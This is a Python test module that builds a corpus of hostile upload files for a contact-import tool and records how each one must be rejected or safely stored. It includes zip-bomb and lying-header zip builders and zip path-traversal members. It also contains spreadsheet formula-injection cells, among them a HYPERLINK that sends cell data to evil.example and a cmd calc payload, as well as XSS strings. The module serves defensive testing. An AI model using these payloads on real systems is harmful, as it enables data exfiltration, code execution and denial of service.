"""The hostile corpus: broken and malicious files, each built as bytes at test time.

Every case is a ``Case``: the upload's name, a builder for its bytes, the import options,
and the outcome relmap must give: ``rejected`` with key words the message must hold (and
the line where one is meant), or ``imported`` with exact counts per stored entry. Big
cases (10 MB cell, zip bomb) are built in memory when a test asks for them; nothing big
is committed. ``limits`` lowers a ``relmap.config`` limit for the case (monkeypatched by
the test), so "more than the limit" never needs gigabytes.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

CONN_HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
OWNER = "Hal Hostile"


@dataclass
class Case:
    """One hostile file and the outcome it must give."""

    id: str
    name: str
    build: Callable[[], bytes]
    outcome: str  # "rejected" | "imported"
    #: rejected: words the (first) problem must hold, lowercase; the file's name is always checked.
    words: tuple[str, ...] = ()
    #: rejected: the line number the message must name (None: no line applies).
    line: int | None = None
    #: imported: one (status, kind, rows_read, hidden_rows, records_imported) per result entry.
    entries: tuple[tuple[str, str, int, int, int], ...] = ()
    #: imported: problem lines expected on the entries (all entries together), in order.
    problem_lines: tuple[int, ...] = ()
    owner: str | None = OWNER
    kind: str | None = None
    #: relmap.config attribute -> value for this case (a low limit instead of a huge file).
    limits: dict[str, int] = field(default_factory=dict)
    #: imported: (table, column, value) that must be stored verbatim.
    stored: tuple[tuple[str, str, str], ...] = ()
    #: what the case is, for the SECURITY.md table.
    about: str = ""


# --- builders ---------------------------------------------------------------------------------


def connections(rows: list[list[str]] | list[str], header: str = CONN_HEADER, sep: str = ",") -> str:
    """A Connections.csv text: ``rows`` as lists of cells (quoted when needed) or raw lines."""
    lines = [header]
    for row in rows:
        if isinstance(row, str):
            lines.append(row)
        else:
            lines.append(sep.join(_quote(c, sep) for c in row))
    return "\n".join(lines) + "\n"


def _quote(cell: str, sep: str) -> str:
    if any(ch in cell for ch in (sep, '"', "\n", "\r")):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def person(i: int, first: str | None = None, last: str | None = None, company: str = "Acme",
           position: str = "Engineer") -> list[str]:
    """One Connections row of a synthetic person numbered ``i``."""
    return [first or f"Pat{i}", last or f"Tester{i}", f"https://www.linkedin.com/in/hostile-{i}", "",
            company, position, "01 Jan 2024"]


def good_connections(n: int = 3, start: int = 0) -> bytes:
    """A clean current-layout Connections.csv of ``n`` people."""
    return connections([person(i) for i in range(start, start + n)]).encode()


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip holding ``members`` (names written as given, ``../`` and ``/`` included)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def zeros_deflated(size: int) -> tuple[bytes, int]:
    """``size`` zero bytes, raw-deflated in 1 MB steps (never held whole); returns (stream, crc)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\x00" * 2**20
    out, crc, left = [], 0, size
    while left:
        piece = chunk[:min(left, len(chunk))]
        out.append(comp.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    out.append(comp.flush())
    return b"".join(out), crc


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand: ``(name, deflated stream, crc, declared size, method)`` per member,
    so a member can declare any uncompressed size (a lying header) or be any size at all."""
    out = io.BytesIO()
    central = []
    for name, stream, crc, declared, method in members:
        raw_name = name.encode()
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x5A21, crc, len(stream),
                              declared, len(raw_name), 0))
        out.write(raw_name)
        out.write(stream)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x5A21, crc,
                                   len(stream), declared, len(raw_name), 0, 0, 0, 0, 0o100644 << 16, offset)
                       + raw_name)
    start = out.tell()
    for entry in central:
        out.write(entry)
    size = out.tell() - start
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), size, start, 0))
    return out.getvalue()


def zip_bomb(size: int = 50 * 2**20) -> bytes:
    """A Connections.csv member of ``size`` zero bytes, deflated (about 50 KB on disk for 50 MB)."""
    stream, crc = zeros_deflated(size)
    return raw_zip([("Connections.csv", stream, crc, size, zipfile.ZIP_DEFLATED)])


def lying_zip() -> bytes:
    """A member that declares 1 KB but inflates to 20 MB: only the central directory lies."""
    stream, crc = zeros_deflated(20 * 2**20)
    return raw_zip([("Connections.csv", stream, crc, 1024, zipfile.ZIP_DEFLATED)])


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    """A real one-sheet workbook (openpyxl)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def xlsx_bomb(size: int = 50 * 2**20) -> bytes:
    """A workbook whose sheet XML inflates to ``size`` bytes of zeros (the zip limits apply)."""
    real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Account Name", "Website"], ["Acme", "acme.example"]])))
    members = []
    for info in real.infolist():
        data = real.read(info)
        if info.filename == "xl/worksheets/sheet1.xml":
            stream, crc = zeros_deflated(size)
            members.append((info.filename, stream, crc, size, zipfile.ZIP_DEFLATED))
            continue
        comp = zlib.compressobj(6, zlib.DEFLATED, -15)
        members.append((info.filename, comp.compress(data) + comp.flush(), zlib.crc32(data), len(data),
                        zipfile.ZIP_DEFLATED))
    return raw_zip(members)


def _random(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def crm_contacts(rows: list[list[str]]) -> bytes:
    """A CRM contacts export (Salesforce report shape)."""
    header = ["First Name", "Last Name", "Email", "Title", "Account Name"]
    return connections(rows, header=",".join(header)).encode()


def _formula_contacts() -> bytes:
    return crm_contacts([[f, f"Formula{i}", f"f{i}@acme.example", FORMULAS[(i + 1) % 4], "Acme"]
                         for i, f in enumerate(FORMULAS)])


def _xss_connections() -> bytes:
    return connections([person(1, first=XSS_SCRIPT, last="Script"), person(2, first="Img", last=XSS_IMG,
                                                                              company=XSS_SCRIPT),
                        person(3)]).encode()


def _long_values() -> bytes:
    return connections([person(1, first="A" * 5000), person(2, position="P" * 3000),
                        person(3, company="C" * 1000), person(4)]).encode()


def _long_crm_values() -> bytes:
    return crm_contacts([["B" * 400, "Long", "b@acme.example", "CTO", "Acme"],
                         ["Cat", "Title", "c@acme.example", "T" * 700, "Acme"],
                         ["Dan", "Short", "d@acme.example", "CFO", "Acme"]])


def _long_deal_values() -> bytes:
    header = "Opportunity Name,Stage,Amount,Close Date,Account Name,Contact Roles"
    return connections([["Deal A", "Closed Won", "100", "2025-01-01", "Acme", "Z" * 300 + " (Champion)"],
                        ["Deal B", "S" * 400, "100", "2025-01-01", "Acme", ""],
                        ["Deal C", "Closed Won", "100", "2025-01-01", "Acme", ""],
                        ["Deal D", "Negotiation", "100", "2025-06-01", "Acme", ""]],
                       header=header).encode()


def _truncated_mid_quote() -> bytes:
    text = connections([person(1), person(2), person(3, position="VP, Sales")])
    return text[:text.rindex("VP, Sa")].encode()  # cut inside the quoted "VP, Sales"


def _mismatched_quotes() -> bytes:
    # Row 3 opens a quote that never closes: it swallows the rest of the file.
    return connections([person(1), '"Pat2,Tester2,https://www.linkedin.com/in/hostile-2,,Acme,Engineer,01 Jan 2024',
                        person(3), person(4)]).encode()


def _stray_quotes() -> bytes:
    # Quotes inside unquoted cells are kept as text (how spreadsheets read them).
    return connections([person(1, first='Pa"t'), person(2, last='O"Brien"'), person(3)]).encode()


def _duplicate_headers() -> bytes:
    header = "First Name,Last Name,URL,Email Address,Company,Company,Position,Connected On"
    rows = [[f"Pat{i}", f"Tester{i}", f"https://www.linkedin.com/in/hostile-{i}", "", "Acme", "Globex", "Engineer",
             "01 Jan 2024"] for i in range(3)]
    return connections(rows, header=header).encode()


def _wide_line() -> bytes:
    wide = ",".join(f"c{i}" for i in range(100_000))
    return connections([person(1), wide, person(2)]).encode()


def _wide_header() -> bytes:
    return (",".join(f"Column {i}" for i in range(100_000)) + "\n" + ",".join("x" * 100_000) + "\n").encode()


def _big_cell() -> bytes:
    return connections([person(1), person(2, position="A" * (10 * 2**20)), person(3)]).encode()


def _nul_bytes() -> bytes:
    rows = [person(i) for i in range(60)]  # past the first 4 KB, where the encoding is sniffed
    rows[55][5] = "Eng\x00ineer"
    rows[2][0] = "P\x00at2"
    return connections(rows).encode()


def _mixed_delimiters() -> bytes:
    # Whole `;` and tab rows are split again (they have the header's width); a short one is listed.
    return connections([person(1), ";".join(person(2)), "\t".join(person(3)), person(4), "Pat5;Tester5;Acme"]).encode()


def _utf16_no_bom() -> bytes:
    return connections([person(1, first="Jörg", last="Müller"), person(2)]).encode("utf-16-le")


def _utf16_be_no_bom() -> bytes:
    return connections([person(1, first="Zoë"), person(2)]).encode("utf-16-be")


def _excel_unicode_text() -> bytes:
    # Excel's "Save as Unicode text": UTF-16 LE with BOM, tab-separated, CRLF.
    text = connections([person(1, first="Łukasz"), person(2), person(3)], header=CONN_HEADER.replace(",", "\t"),
                       sep="\t").replace("\n", "\r\n")
    return b"\xff\xfe" + text.encode("utf-16-le")


def _hidden_only() -> bytes:
    return connections([",,,,,,01 Jan 2024"] * 4).encode()


def _too_many_rows() -> bytes:
    return good_connections(12, start=100)


def _zip_traversal() -> bytes:
    return zip_bytes({"../../x.csv": good_connections(2, start=200), "/etc/x.csv": good_connections(2, start=300)})


def _nested_zip() -> bytes:
    inner = zip_bytes({"Connections.csv": good_connections(2, start=400)})
    return zip_bytes({"inner.zip": inner, "deeper/again.zip": zip_bytes({"in.zip": inner})})


def _too_many_members() -> bytes:
    return zip_bytes({f"notes/n{i}.txt": b"x" for i in range(501)}, method=zipfile.ZIP_STORED)


def _xlsx_as_text() -> bytes:
    return b"Account Name,Website,Type\nAcme,acme.example,Customer\nGlobex,globex.example,Prospect\n"


def _corrupt_xlsx() -> bytes:
    return b"PK\x03\x04" + _random(3000, 7)


def _truncated_xlsx() -> bytes:
    real = xlsx_bytes([["Account Name", "Website"], ["Acme", "acme.example"]])
    return real[:len(real) // 2]


def _xlsx_garbage_sheet() -> bytes:
    real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Account Name", "Website"], ["Acme", "acme.example"]])))
    return zip_bytes({i.filename: (b"<<not xml" if i.filename.endswith("sheet1.xml") else real.read(i))
                      for i in real.infolist()})


CASES: list[Case] = [
    Case("zero-bytes", "Connections.csv", lambda: b"", "rejected", ("empty", "export"),
         about="0-byte file"),
    Case("bom-only", "Connections.csv", lambda: b"\xef\xbb\xbf", "rejected", ("empty", "export"),
         about="empty file (a UTF-8 BOM and nothing else)"),
    Case("whitespace-only", "Connections.csv", lambda: b" \r\n\t \n\n   \n", "rejected", ("empty", "export"),
         about="whitespace only"),
    Case("binary-png", "Connections.csv", lambda: b"\x89PNG\r\n\x1a\n" + _random(4000, 1), "rejected",
         ("binary", "csv"), about="PNG header + random bytes"),
    Case("binary-elf", "contacts.csv", lambda: b"\x7fELF\x02\x01\x01" + _random(4000, 2), "rejected",
         ("binary", "csv"), about="ELF header + random bytes"),
    Case("binary-random", "data.txt", lambda: _random(20000, 3), "rejected", ("binary", "csv"),
         about="20 KB of random bytes"),
    Case("utf16-le-no-bom", "Connections.csv", _utf16_no_bom, "imported",
         entries=(("imported", "linkedin_connections", 2, 0, 2),),
         stored=(("people", "full_name", "Jörg Müller"),), about="UTF-16 LE without BOM"),
    Case("utf16-be-no-bom", "Connections.csv", _utf16_be_no_bom, "imported",
         entries=(("imported", "linkedin_connections", 2, 0, 2),),
         stored=(("people", "full_name", "Zoë Tester1"),), about="UTF-16 BE without BOM"),
    Case("excel-unicode-text", "Connections.txt", _excel_unicode_text, "imported",
         entries=(("imported", "linkedin_connections", 3, 0, 3),),
         stored=(("people", "full_name", "Łukasz Tester1"),),
         about='Excel "Unicode text" (UTF-16 LE with BOM, tabs, CRLF)'),
    Case("truncated-mid-quote", "Connections.csv", _truncated_mid_quote, "rejected",
         ("line 4", "quote", "export"), line=4, about="file cut inside a quoted cell"),
    Case("mismatched-quotes", "Connections.csv", _mismatched_quotes, "rejected", ("line 3", "quote", "export"),
         line=3, about="a quote opened and never closed (swallows the rest of the file)"),
    Case("stray-quotes", "Connections.csv", _stray_quotes, "imported",
         entries=(("imported", "linkedin_connections", 3, 0, 3),),
         stored=(("people", "full_name", 'Pa"t Tester1'),), about="quotes inside unquoted cells"),
    Case("duplicate-headers", "Connections.csv", _duplicate_headers, "imported",
         entries=(("imported", "linkedin_connections", 3, 0, 3),),
         stored=(("companies", "name", "Acme"),), about="a header named twice (the first one is read)"),
    Case("wide-line", "Connections.csv", _wide_line, "imported",
         entries=(("imported", "linkedin_connections", 3, 0, 2),), problem_lines=(3,),
         about="a 100,000-column data line"),
    Case("wide-header", "wide.csv", _wide_header, "rejected", ("not a file relmap knows", "--kind"),
         about="a 100,000-column header"),
    Case("big-cell", "Connections.csv", _big_cell, "rejected", ("line 3", "cell", "longer"), line=3,
         about="a 10 MB single cell"),
    Case("nul-bytes", "Connections.csv", _nul_bytes, "imported",
         entries=(("imported", "linkedin_connections", 60, 0, 60),),
         stored=(("people", "full_name", "Pat2 Tester2"), ("employments", "title", "Engineer")),
         about="NUL bytes inside cells, also after the first 4 KB"),
    Case("mixed-delimiters", "Connections.csv", _mixed_delimiters, "imported",
         entries=(("imported", "linkedin_connections", 5, 0, 4),), problem_lines=(6,),
         stored=(("people", "full_name", "Pat2 Tester2"), ("people", "full_name", "Pat3 Tester3")),
         about="rows separated by `;` and tab under a `,` header (split again; a short one is listed)"),
    Case("long-values", "Connections.csv", _long_values, "imported",
         entries=(("imported", "linkedin_connections", 4, 0, 1),), problem_lines=(2, 3, 4),
         about="a 5,000-character name, a 3,000-character position, a 1,000-character company "
               "(PostgreSQL refused the whole file)"),
    Case("long-values-crm", "contacts.csv", _long_crm_values, "imported", owner=None,
         entries=(("imported", "crm_contacts", 3, 0, 1),), problem_lines=(2, 3),
         about="CRM contacts with a 400-character name and a 700-character title"),
    Case("long-values-deals", "opportunities.csv", _long_deal_values, "imported", owner=None,
         entries=(("imported", "crm_opportunities", 4, 0, 2),), problem_lines=(2, 3),
         about="CRM opportunities naming a 300-character contact and a 400-character stage"),
    Case("long-file-name", "x" * 600 + ".csv", lambda: good_connections(2, start=500), "imported",
         entries=(("imported", "linkedin_connections", 2, 0, 2),), about="a 604-character file name"),
    Case("crm-formulas", "contacts.csv", _formula_contacts, "imported", owner=None,
         entries=(("imported", "crm_contacts", 4, 0, 4),),
         stored=tuple(("people", "first_name", f) for f in FORMULAS)
         + tuple(("crm_contacts", "title", f) for f in FORMULAS),
         about="CRM cells `=HYPERLINK(...)`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`"),
    Case("xss-names", "Connections.csv", _xss_connections, "imported",
         entries=(("imported", "linkedin_connections", 3, 0, 3),),
         stored=(("people", "first_name", XSS_SCRIPT), ("people", "last_name", XSS_IMG),
                 ("companies", "name", XSS_SCRIPT)),
         about="names `<script>alert(1)</script>` and `\"><img src=x onerror=alert(1)>`"),
    Case("zip-traversal", "export.zip", _zip_traversal, "imported",
         entries=(("imported", "linkedin_connections", 2, 0, 2), ("imported", "linkedin_connections", 2, 0, 2)),
         about="zip members `../../x.csv` and `/etc/x.csv`"),
    Case("nested-zip", "export.zip", _nested_zip, "rejected", ("zip", "inside", "unzip"),
         about="zips inside a zip"),
    Case("zip-bomb", "export.zip", zip_bomb, "rejected", ("expands", "RELMAP_MAX_ZIP_RATIO"),
         about="50 MB of zeros deflated to 50 KB"),
    Case("zip-lying-sizes", "export.zip", lying_zip, "rejected", ("sizes", "download"),
         about="a member declaring 1 KB that inflates to 20 MB"),
    Case("zip-too-many-members", "export.zip", _too_many_members, "rejected", ("501 files", "RELMAP_MAX_ZIP_MEMBERS"),
         about="501 members (limit 500)"),
    Case("zip-too-big-expanded", "export.zip", lambda: zip_bytes({"Connections.csv": good_connections(40)}),
         "rejected", ("expands", "RELMAP_MAX_ZIP_EXPANDED_BYTES"), limits={"MAX_ZIP_EXPANDED_BYTES": 1000},
         about="a zip expanding past the limit (limit lowered to 1,000 bytes)"),
    Case("xlsx-bomb", "accounts.xlsx", xlsx_bomb, "rejected", ("expands", "RELMAP_MAX_ZIP_RATIO"), owner=None,
         about="an .xlsx whose sheet inflates 50 MB of zeros"),
    Case("huge-upload", "Connections.csv", lambda: good_connections(2000), "rejected",
         ("larger than", "RELMAP_MAX_UPLOAD_BYTES"), limits={"MAX_UPLOAD_BYTES": 100_000},
         about="an upload over the size limit (limit lowered to 100,000 bytes; a 10 GB sparse file is "
               "tested through import_paths and the CLI)"),
    Case("too-many-rows", "Connections.csv", _too_many_rows, "rejected", ("rows", "RELMAP_MAX_ROWS"),
         limits={"MAX_ROWS": 10}, about="more rows than the limit (limit lowered to 10)"),
    Case("too-many-rows-crm", "contacts.csv",
         lambda: crm_contacts([[f"A{i}", f"B{i}", f"a{i}@x.example", "", "Acme"] for i in range(12)]),
         "rejected", ("rows", "RELMAP_MAX_ROWS"), owner=None, limits={"MAX_ROWS": 10},
         about="a CRM file with more rows than the limit (limit lowered to 10)"),
    Case("header-only", "Connections.csv", lambda: (CONN_HEADER + "\n").encode(), "imported",
         entries=(("imported", "linkedin_connections", 0, 0, 0),), about="a header and no rows"),
    Case("all-rows-hidden", "Connections.csv", _hidden_only, "imported",
         entries=(("imported", "linkedin_connections", 4, 4, 0),), about="every row hidden (only a date)"),
    Case("xlsx-is-text", "accounts.xlsx", _xlsx_as_text, "imported", owner=None,
         entries=(("imported", "crm_accounts", 2, 0, 2),), stored=(("crm_accounts", "name", "Globex"),),
         about="an .xlsx that is really CSV text (read by content)"),
    Case("xlsx-corrupt", "accounts.xlsx", _corrupt_xlsx, "rejected", ("damaged", "again"), owner=None,
         about="an .xlsx of zip garbage"),
    Case("xlsx-truncated", "accounts.xlsx", _truncated_xlsx, "rejected", ("damaged", "again"), owner=None,
         about="an .xlsx cut in half"),
    Case("xlsx-garbage-sheet", "accounts.xlsx", _xlsx_garbage_sheet, "rejected", ("excel", "again"), owner=None,
         about="an .xlsx whose sheet is not XML"),
]

CASES_BY_ID = {c.id: c for c in CASES}


def write_case(case: Case, folder: os.PathLike) -> str:
    """Write ``case`` into ``folder`` under its name; returns the path."""
    path = os.path.join(folder, f"{case.id}-{case.name}")
    with open(path, "wb") as fh:
        fh.write(case.build())
    return path


def outcome_text(case: Case) -> str:
    """The promised outcome of ``case`` in words, for the SECURITY.md table."""
    if case.outcome == "rejected":
        where = f" naming line {case.line}" if case.line else ""
        return f"rejected{where}; message says: {', '.join(f'`{w}`' for w in case.words)}"
    parts = []
    for status, kind, read, hidden, stored in case.entries:
        parts.append(f"{status} as {kind}: {read} rows read, {hidden} hidden, {stored} stored")
    text = "; ".join(parts)
    if case.problem_lines:
        text += f"; problem listed on line {', '.join(map(str, case.problem_lines))}"
    if case.stored:
        text += "; stored verbatim"
    return text


def markdown_table() -> str:
    """The corpus as the table in docs/SECURITY.md ("Hostile files and limits"); a test keeps them equal."""
    rejected = sum(c.outcome == "rejected" for c in CASES)
    lines = [f"{len(CASES)} cases tried: {rejected} rejected with a reason, {len(CASES) - rejected} imported.",
             "",
             "| case | file | outcome |",
             "|---|---|---|"]
    for case in CASES:
        limit = "; limit lowered for the test" if case.limits else ""
        lines.append(f"| `{case.id}` | {case.about.replace('|', '&#124;')} | "
                     f"{outcome_text(case).replace('|', '&#124;')}{limit} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":  # python -m tests.hostile.corpus: print the SECURITY.md table
    print(markdown_table(), end="")
